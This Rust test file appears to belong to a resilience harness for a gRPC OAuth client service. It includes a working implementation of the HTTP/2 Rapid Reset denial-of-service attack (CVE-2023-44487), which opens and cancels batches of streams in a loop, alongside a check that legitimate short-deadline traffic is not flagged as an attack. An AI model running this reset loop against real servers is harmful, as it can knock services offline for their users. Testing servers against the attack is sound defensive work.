//! HTTP/2 streams that are reset: by an attacker, and by an impatient caller.

use std::time::Duration;

use h2::{Reason, client};
use http::Request;
use oauth_clients::pb::v1::LookupClientRequest;
use tokio::{
    net::TcpStream,
    time::{Instant, sleep},
};
use uuid::Uuid;

use super::{Case, figures};
use crate::{
    stage::{Bench, OTHER, Stage},
    support::Outcome,
    traffic::{Attack, Caller, code, patiently},
    verdict::{Row, Rules, seconds},
};

/// The number of streams that are opened before they are reset.
const BATCH: usize = 20;
/// The time after which they are reset: the server has begun to work on them, and has not responded yet.
const PAUSE: Duration = Duration::from_millis(2);
const DEADLINE: Duration = Duration::from_millis(50);

/// Opens streams on one connection and resets them at once (CVE-2023-44487).
pub(crate) async fn rapid_reset(bench: &mut Bench, case: Case) -> Outcome<Row> {
    let setup = bench.setup(case.1).await?;
    let mut stage = bench.stage(setup).await?;
    let observed = stage.observe(async |stage| reset_rapidly(stage).await).await?;
    let (streams, stopped) = observed.value;
    let (figures, broken) = match stopped {
        Some(after) => (
            format!(
                "the server ended the connection after {streams} streams and {}",
                seconds(after)
            ),
            Vec::new(),
        ),
        None => (
            format!("{streams} streams in {}", seconds(stage.plan.fault)),
            vec!["not stopped".to_owned()],
        ),
    };
    Ok(Row::of(
        case,
        &observed,
        Rules::UNHARMED,
        stage.plan,
        &figures,
        broken,
    ))
}

/// Returns the number of streams, and the time until the server ended the connection, if it did.
async fn reset_rapidly(stage: &Stage) -> Outcome<(usize, Option<Duration>)> {
    let server = stage.servers.first().ok_or("no server")?;
    let stream = TcpStream::connect(server.grpc).await?;
    let (mut sender, connection) = client::handshake(stream).await?;
    let mut connection = tokio::spawn(connection);
    let id = stage.clients.first().ok_or("no client")?.id.as_str();
    let authorization = server.authorization(OTHER, "resetting")?;
    let started = Instant::now();
    let mut streams = 0;
    while started.elapsed() < stage.plan.fault {
        let mut batch = Vec::new();
        for _ in 0..BATCH {
            let request = Request::post(format!(
                "http://{}/oauth_clients.v1.OAuthClientService/GetOAuthClient",
                server.grpc
            ))
            .header("content-type", "application/grpc")
            .header("authorization", &authorization)
            .body(())?;
            let ready = tokio::time::timeout(stage.plan.fault, sender.clone().ready()).await;
            let Ok(Ok(ready)) = ready else {
                return Ok((streams, Some(started.elapsed())));
            };
            sender = ready;
            let Ok((response, mut body)) = sender.send_request(request, false) else {
                return Ok((streams, Some(started.elapsed())));
            };
            let message = [&[0, 0, 0, 0, 34, 10, 32], id.as_bytes()].concat();
            // The server may have ended the stream.
            let _sent = body.send_data(message.into(), true);
            batch.push((response, body));
            streams += 1;
        }
        sleep(PAUSE).await;
        for (_response, body) in &mut batch {
            body.send_reset(Reason::CANCEL);
        }
        if connection.is_finished() {
            return Ok((streams, Some(started.elapsed())));
        }
    }
    connection.abort();
    let _ended = (&mut connection).await;
    Ok((streams, None))
}

/// Looks clients up with short deadlines, thousands at once on one connection. It must not be mistaken for an attack.
pub(crate) async fn short_deadlines(bench: &mut Bench, case: Case) -> Outcome<Row> {
    let setup = bench.setup(case.1).await?;
    let mut stage = bench.stage(setup).await?;
    let in_flight = stage.plan.size(600, 6_000);
    let observed = stage
        .observe(async |stage| {
            let attack = Attack::start(&stage.attackers(1)?, in_flight, |caller, number| async move {
                look_up(caller, number).await
            });
            sleep(stage.plan.fault).await;
            Ok(attack.stop().await)
        })
        .await?;
    let mut broken = Vec::new();
    if observed.value.failed.contains_key(code::NO_CONNECTION) {
        broken.push("the connection was ended".to_owned());
    }
    let figures = format!("{in_flight} in flight; {}", figures(&observed.value));
    let rules = Rules {
        may_be_slow: true,
        ..Rules::UNHARMED
    };
    Ok(Row::of(case, &observed, rules, stage.plan, &figures, broken))
}

/// Looks up a client that does not exist, so that the database is asked.
async fn look_up(caller: Caller, number: u64) -> Result<(), &'static str> {
    let client_id = Uuid::now_v7().simple().to_string();
    let mut request = caller.request(number, LookupClientRequest { client_id });
    request.set_timeout(DEADLINE);
    let mut authentication = caller.authentication.clone();
    match patiently(authentication.lookup_client(request)).await {
        Ok(_) | Err(code::NOT_FOUND) => Ok(()),
        Err(code) => Err(code),
    }
}
